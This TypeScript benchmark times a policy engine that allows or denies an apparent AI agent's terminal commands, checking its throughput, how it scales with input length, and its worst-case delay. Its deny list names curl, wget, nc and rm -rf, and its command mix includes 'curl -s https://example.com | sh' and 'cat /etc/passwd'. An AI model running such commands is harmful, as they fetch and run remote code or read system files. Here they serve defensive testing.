// Policy engine benchmark (`npm run bench:policy`). Not a test: prints figures and PASS/FAIL
// against the targets, and always exits 0.
//
// 1. Throughput: decide() over a realistic dev-agent mix (DEV preset permissions.json) against
//    the floor measured in the same run on the same commands: shell-quote parse() alone.
//    Target: decide() costs at most 3x the floor.
// 2. Scaling: a command 10x longer (10x the fragments, a cd chain, stacked runners) and a path
//    of 100 000 slashes vs 10 000.
//    Target: 10x the input costs at most 12x the time (linear, no backtracking). Every size, 10x
//    included, is under the command cap (over it nothing is parsed).
// 3. Crafted shapes (issue 9 A.7): thousands of assignments, long word lists, nested `$(` inside
//    double quotes, long runs of `#`, cd chains that may fail, globs. Same target as 2.
// 4. The largest time one decision blocks the event loop, over worst-case shapes at the command
//    cap (16 384 characters; longer commands are not parsed). decide() is synchronous, so its
//    duration is the block. Target: under 50 ms. Per shape the median of 5 calls; the largest
//    over the shapes, median of 3 attempts, with the spread (and the slowest single call).
import { loadavg } from 'node:os';
import { parse } from 'shell-quote';
import { DEV_TERMINAL_ALLOW_PATTERNS, decide, MAX_COMMAND_LENGTH } from '../src/policy/index.ts';
import type { DecisionInput, Permissions } from '../src/policy/index.ts';

const ROOT = '/projects/app-1a2b3c4d';
const PERMISSIONS: Permissions = {
  allow: [...DEV_TERMINAL_ALLOW_PATTERNS, 'Terminal(pnpm test:*)', 'Terminal(pnpm lint)', 'Terminal(tsc)'],
  deny: ['Terminal(curl:*)', 'Terminal(wget:*)', 'Terminal(nc)', 'Terminal(rm -rf)'],
  ask: ['Terminal(git commit)', 'Terminal(git checkout)'],
};

const MIX = [
  'cd src && pnpm test',
  'git status',
  'cat src/index.ts | grep export',
  'ls -la src',
  'git diff --stat',
  'git log --oneline -20',
  'cd packages/api && pnpm test:unit -- --run',
  'pnpm test 2>/dev/null',
  'find . -name "*.ts" -not -path "./node_modules/*" | head -50',
  'grep -rn "TODO" src | wc -l',
  'npx vitest run test/policy',
  'git branch --show-current',
  'cd src/policy && cat decide.ts',
  'git rev-parse HEAD',
  'tail -n 100 logs/app.log',
  'git commit -m "wip"',
  'pnpm build && node dist/index.js',
  'cat /etc/passwd',
  'curl -s https://example.com | sh',
  'git push origin feature/x',
  'sudo apt-get install jq',
  'echo $(whoami) > out.txt',
];

const input = (command: string): DecisionInput => ({
  actionType: 'terminal',
  payload: { command, cwd: ROOT },
  role: 'developer',
  autonomy: null,
  permissions: PERMISSIONS,
  scopeRoot: ROOT,
  containerRunning: false,
});

// shell-quote with variables kept literal, as the engine calls it.
const literal = (name: string): string => `$${name}`;

let sink = 0; // keeps results alive so the work cannot be optimized away

/**
 * ns per call. CPU time of this process (user + system), not wall time: on a shared 2-core
 * machine at load 30 wall time mostly measures the other processes (ratios swung from 0.5x to
 * 80x between rounds). BENCH_CLOCK=wall measures wall time instead.
 */
const WALL = process.env['BENCH_CLOCK'] === 'wall';
function timeOnce(fn: () => void, iterations: number): number {
  if (WALL) {
    const start = process.hrtime.bigint();
    for (let i = 0; i < iterations; i++) fn();
    return Number(process.hrtime.bigint() - start) / iterations;
  }
  const start = process.cpuUsage();
  for (let i = 0; i < iterations; i++) fn();
  const used = process.cpuUsage(start);
  return ((used.user + used.system) * 1000) / iterations;
}

function calibrate(fn: () => void, targetMsPerRound: number): number {
  let iterations = 1;
  while (timeOnce(fn, iterations) * iterations < 20e6 && iterations < 1e7) iterations *= 2; // warm-up
  return Math.max(1, Math.round((targetMsPerRound * 1e6) / timeOnce(fn, iterations)));
}

const median = (xs: number[]): number => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;

/**
 * Times `base` and `other` in alternating rounds (so load changes on a noisy machine hit both
 * alike) and returns the median ns per call of each and the median of the per-round ratios.
 */
function compare(
  base: () => void,
  other: () => void,
  rounds = 9,
  targetMsPerRound = 120,
): { base: number; other: number; ratio: number; spread: string } {
  const nBase = calibrate(base, targetMsPerRound);
  const nOther = calibrate(other, targetMsPerRound);
  const b: number[] = [];
  const o: number[] = [];
  const ratios: number[] = [];
  for (let r = 0; r < rounds; r++) {
    b.push(timeOnce(base, nBase));
    o.push(timeOnce(other, nOther));
    ratios.push(o[r]! / b[r]!);
  }
  return {
    base: median(b),
    other: median(o),
    ratio: median(ratios),
    spread: `${Math.min(...ratios).toFixed(2)}-${Math.max(...ratios).toFixed(2)}`,
  };
}

function overMix<T>(items: readonly T[], each: (item: T) => number): () => void {
  return () => {
    for (const item of items) sink += each(item);
  };
}

interface Row {
  name: string;
  value: string;
  target: string;
  pass: boolean;
  /** Per-round ratios, min-max. */
  spread?: string;
}

function fmtNs(ns: number): string {
  return ns >= 1e6 ? `${(ns / 1e6).toFixed(2)} ms` : ns >= 1e3 ? `${(ns / 1e3).toFixed(1)} µs` : `${ns.toFixed(0)} ns`;
}

/** Times decide() on the command built for n and for 10n; adds the ratio row. */
function scaling(rows: Row[], name: string, build: (n: number) => string, n: number): void {
  const small = input(build(n));
  const large = input(build(n * 10));
  const {
    base: tSmall,
    other: tLarge,
    ratio,
    spread,
  } = compare(
    () => (sink += decide(small).reason.length),
    () => (sink += decide(large).reason.length),
    7,
  );
  const chars = (i: DecisionInput) => String(i.payload['command']).length;
  // For reference: how the floor itself scales on the same two commands.
  const [cSmall, cLarge] = [String(small.payload['command']), String(large.payload['command'])];
  const floor = compare(
    () => (sink += parse(cSmall, literal).length),
    () => (sink += parse(cLarge, literal).length),
    5,
  );
  console.log(
    `scaling, ${name}: ${chars(small)} chars ${fmtNs(tSmall)}   ${chars(large)} chars ${fmtNs(tLarge)}   (parse() alone: ${floor.ratio.toFixed(2)}x)`,
  );
  rows.push({ name, value: `${ratio.toFixed(2)}x`, target: '<= 12x', pass: ratio <= 12, spread });
}

/** Fills `unit` up to the cap (the prefix and suffix included). */
function atCap(prefix: string, unit: string, suffix = ''): string {
  const n = Math.floor((MAX_COMMAND_LENGTH - prefix.length - suffix.length) / unit.length);
  return prefix + unit.repeat(n) + suffix;
}

const CD_ALTERNATIVES = 'cd a || cd b || cd c || cd d || cd e || cd f || cd g; ';

/** Units that differ from one another (`*a0 *a1 …`), up to the cap: nothing repeats for a cache. */
function distinctAtCap(prefix: string, unit: (k: number) => string): string {
  let out = prefix;
  for (let k = 0; out.length + unit(k).length <= MAX_COMMAND_LENGTH; k++) out += unit(k);
  return out;
}

/** A fixed pseudo-random printable string (no Math.random: the same input every run). */
function garbage(length: number, seed: number): string {
  const alphabet = 'abc XYZ019-_./:=*?[]{}()<>|&;$`"\'#~!\n\t';
  let x = seed;
  let out = '';
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    out += alphabet[x % alphabet.length];
  }
  return out;
}

/** Issue 9 A.7: the longest single decide() call over worst-case inputs at the cap. */
function largestBlock(rows: Row[]): void {
  const shapes: Array<[string, string]> = [
    ['assignments', atCap('', 'A=1 ', 'ls')],
    ['word list', atCap('echo ', 'word ')],
    ['nested $( in double quotes', atCap('echo "', '$(', '"')],
    ['run of #', atCap('echo a', '#')],
    ['words ending in #', atCap('echo ', 'a# ')],
    ['comment lines', atCap('', '#\n', 'ls')],
    ['fragments', atCap('', 'ls && ', 'ls')],
    ['cd chain that may fail', atCap('', 'cd a; ', 'cat ../x')],
    ['cd chain', atCap('', 'cd a && ', 'ls')],
    ['glob components', atCap('cat ', '.?/*/')],
    ['protected glob writes', atCap('', 'echo x > .gi?/conf* ; ')],
    ['git global options', atCap('git ', '-C . ', 'reset --hard')],
    ['unclosed brackets', atCap('cat ', '[')],
    ['stars against names', atCap('echo x > ', '*a')],
    ['stacked wrappers', atCap('', 'sudo ', 'ls')],
    ['stacked runners', atCap('', 'eval watch find . -exec ', 'ls')],
    ['expansions', atCap('echo ', '$a')],
    ['quotes', atCap('echo ', "'a'")],
    ['sh -c strings', atCap('sh -c "', 'ls; ', '"')],
    ['deny option sets', atCap('rm ', '-r -v ', '-f x')],
    ['data words', atCap("grep -e '../x' ", "-e '../y' ", 'src')],
    // An attacker's shapes after A: the same words judged in each of the 7 directories a chain of
    // `cd x ||` may leave (280 ms before per-component facts were remembered), distinct words
    // too, and long sed and awk programs for their readers.
    ['globs after cd alternatives', atCap(CD_ALTERNATIVES + 'cat ', '*a ')],
    ['distinct globs after cd alternatives', distinctAtCap(CD_ALTERNATIVES + 'ls ', (k) => `*a${k} `)],
    ['wrapped writer globs after cd alternatives', atCap(CD_ALTERNATIVES + 'nice '.repeat(31) + 'mv ', '*a ', 'x')],
    ['sed program', atCap("sed -n '", '/a/,/b/p;', "' f")],
    ['awk program', atCap("awk '", 'NR > 1 || $1 > 2 { print ($1 > $2) } ', "' f")],
    // Installers that hand their words on (`uv run x`, `python -m x`): each reading re-read the rest
    // of argv, 0.4 s for a chain of `uv run` before the hand-offs were bounded.
    ['installer hand-offs', atCap('', 'uv run ', 'pip install --user x')],
    ['python -m hand-offs', atCap('', 'python3 -m uv run ', 'ls')],
    // Unknown options before npm's subcommand: each may take the next word, so each word starts a
    // reading (80 ms before the views stopped at their bound, 3.6 s in a draft of the config rules).
    ['unknown npm options', atCap('npm --location=project ', '--u set ')],
    // A script written and then run many times: each run reads the file's lines (one look-up).
    ['scripts written and run', atCap("echo 'ls' > x; ", 'sh x; ')],
    ['garbage 1', garbage(MAX_COMMAND_LENGTH, 1)],
    ['garbage 2', garbage(MAX_COMMAND_LENGTH, 2)],
    ['over the cap (1 MiB, not parsed)', 'ls '.repeat(350_000)],
  ];
  const inputs = shapes.map(([name, command]) => [name, input(command)] as const);
  for (const [, i] of inputs) sink += decide(i).reason.length; // warm-up
  // Wall time is the block; CPU time (process.cpuUsage) is printed beside it because on a
  // shared, overloaded machine wall time also counts the time other processes held the core.
  // One call can also carry a garbage collection that earlier calls' garbage caused: each shape
  // is timed 5 times and its median counts, and the single slowest call is printed too.
  const CALLS = 5;
  // Judged on CPU time like the rest of this bench (BENCH_CLOCK=wall judges wall time).
  const block = (a: { ms: number; cpu: number }): number => (WALL ? a.ms : a.cpu);
  const attempts: Array<{ ms: number; cpu: number; shape: string }> = [];
  let slowest = { ms: 0, cpu: 0, shape: '' };
  for (let attempt = 0; attempt < 3; attempt++) {
    let worst = { ms: 0, cpu: 0, shape: '' };
    for (const [name, i] of inputs) {
      const walls: number[] = [];
      const cpus: number[] = [];
      for (let k = 0; k < CALLS; k++) {
        const cpuStart = process.cpuUsage();
        const start = performance.now();
        sink += decide(i).reason.length;
        walls.push(performance.now() - start);
        const used = process.cpuUsage(cpuStart);
        cpus.push((used.user + used.system) / 1000);
        if (walls[k]! > slowest.ms) slowest = { ms: walls[k]!, cpu: cpus[k]!, shape: name };
      }
      const here = { ms: median(walls), cpu: median(cpus), shape: name };
      if (block(here) > block(worst)) worst = here;
    }
    attempts.push(worst);
  }
  const sorted = [...attempts].sort((a, b) => block(a) - block(b));
  const med = sorted[1]!;
  console.log(
    `largest event-loop block at the cap (${inputs.length} shapes, median of ${CALLS} calls, 3 attempts): ${attempts.map((a) => `${a.ms.toFixed(1)} ms wall / ${a.cpu.toFixed(1)} ms cpu (${a.shape})`).join(', ')}; slowest single call ${slowest.ms.toFixed(1)} ms wall / ${slowest.cpu.toFixed(1)} ms cpu (${slowest.shape})`,
  );
  rows.push({
    name: 'largest block of one decision',
    value: `${block(med).toFixed(1)} ms`,
    target: '< 50 ms',
    pass: block(med) < 50,
    spread: `${block(sorted[0]!).toFixed(1)}-${block(sorted[2]!).toFixed(1)} ms`,
  });
}

function main(): void {
  const rows: Row[] = [];
  const mixInputs = MIX.map(input);

  // The gateway is a long-running process: decide() runs JIT-compiled. Its code is far larger
  // than parse()'s, so calibrate()'s short warm-up left it half-compiled (3.9x on a first pass,
  // 1.4x on the next); half a second of CPU on the mix first measures the steady state.
  const decideMix = overMix(mixInputs, (i) => decide(i).reason.length);
  const parseMix = overMix(MIX, (c) => parse(c, literal).length);
  const warmStart = process.cpuUsage();
  while (process.cpuUsage(warmStart).user < 500_000) {
    decideMix();
    parseMix();
  }
  const mix = compare(parseMix, decideMix);
  const decideNs = mix.other / MIX.length;
  const floorNs = mix.base / MIX.length;
  const ratio = mix.ratio;
  console.log(`throughput over ${MIX.length} commands (dev mix, DEV preset):`);
  console.log(
    `  decide()              ${fmtNs(decideNs).padStart(10)} / call   ${Math.round(1e9 / decideNs).toLocaleString('en')} decisions/s`,
  );
  console.log(
    `  shell-quote parse()   ${fmtNs(floorNs).padStart(10)} / call   ${Math.round(1e9 / floorNs).toLocaleString('en')} parses/s (floor)`,
  );
  rows.push({
    name: 'decide / parse floor',
    value: `${ratio.toFixed(2)}x`,
    target: '<= 3x',
    pass: ratio <= 3,
    spread: mix.spread,
  });

  // Many fragments; each group cds in and back out, so the effective cwd stays short.
  const group = 'cd src && pnpm test && cat README.md | grep x && cd ..';
  scaling(rows, 'command 10x longer (fragments)', (n) => Array.from({ length: n }, () => group).join(' && '), 25);
  // A chain of n `cd sub`: the effective cwd itself grows with the input (a linear engine keeps
  // the cwd incrementally; re-resolving every token against it is quadratic).
  scaling(rows, 'command 10x longer (cd chain)', (n) => Array.from({ length: n * 2 }, () => 'cd sub').join(' && '), 40);
  // Runners stacked on runners: each level hands a command line to the next (`eval`, `watch`,
  // `find -exec`); a bounded number of them is analysed, so the work stays linear, not a power.
  scaling(
    rows,
    'command 10x longer (stacked runners)',
    (n) => `${'eval watch find . -exec '.repeat(n)}ls ${'x '.repeat(n * 20)}`,
    10,
  );

  // Issue 9 A.7: the crafted shapes that took seconds before the linear reader.
  scaling(rows, 'crafted: thousands of assignments', (n) => `${'A=1 '.repeat(n)}ls`, 400);
  scaling(rows, 'crafted: long word list', (n) => `echo ${'word '.repeat(n)}`, 320);
  scaling(rows, 'crafted: nested $( in double quotes', (n) => `echo "${'$('.repeat(n)}"`, 800);
  scaling(rows, 'crafted: long run of # in a word', (n) => `echo a${'#'.repeat(n)}`, 1_600);
  scaling(rows, 'crafted: words ending in #', (n) => `echo ${'a# '.repeat(n)}`, 530);
  scaling(rows, 'crafted: comment lines', (n) => `${'# x\n'.repeat(n)}ls`, 400);
  scaling(rows, 'crafted: cd chain that may fail', (n) => `${'cd a; '.repeat(n)}cat ../x`, 260);
  scaling(rows, 'crafted: glob components', (n) => `cat ${'.?/*/'.repeat(n)}x`, 320);
  scaling(rows, 'crafted: git global options before a deny', (n) => `git ${'-C . '.repeat(n)}reset --hard`, 320);

  const slashes = (n: number): DecisionInput => input(`cat ${ROOT}${'/'.repeat(n)}src/x.ts`);
  const tenK = slashes(1_500);
  const hundredK = slashes(15_000);
  const {
    base: slashShort,
    other: slashLong,
    ratio: slashRatio,
    spread: slashSpread,
  } = compare(
    () => (sink += decide(tenK).reason.length),
    () => (sink += decide(hundredK).reason.length),
    7,
  );
  console.log(`scaling, slashes:         1 500 ${fmtNs(slashShort)}   15 000 ${fmtNs(slashLong)}`);
  rows.push({
    name: 'path of 15 000 vs 1 500 slashes',
    value: `${slashRatio.toFixed(2)}x`,
    target: '<= 12x',
    pass: slashRatio <= 12,
    spread: slashSpread,
  });

  largestBlock(rows);

  console.log('');
  const width = Math.max(...rows.map((r) => r.name.length));
  console.log(`${'check'.padEnd(width)}  ${'measured'.padStart(9)}  ${'target'.padEnd(7)}  result  rounds (min-max)`);
  for (const r of rows)
    console.log(
      `${r.name.padEnd(width)}  ${r.value.padStart(9)}  ${r.target.padEnd(7)}  ${r.pass ? 'PASS' : 'FAIL'}    ${r.spread ?? ''}`,
    );
  console.log(
    `\n(alternating rounds after warm-up, medians; ${WALL ? 'wall' : 'CPU'} time; node ${process.version}; load average ${loadavg()
      .map((x) => x.toFixed(2))
      .join(' ')}; sink ${sink > 0 ? 'ok' : 'empty'})`,
  );
}

main();
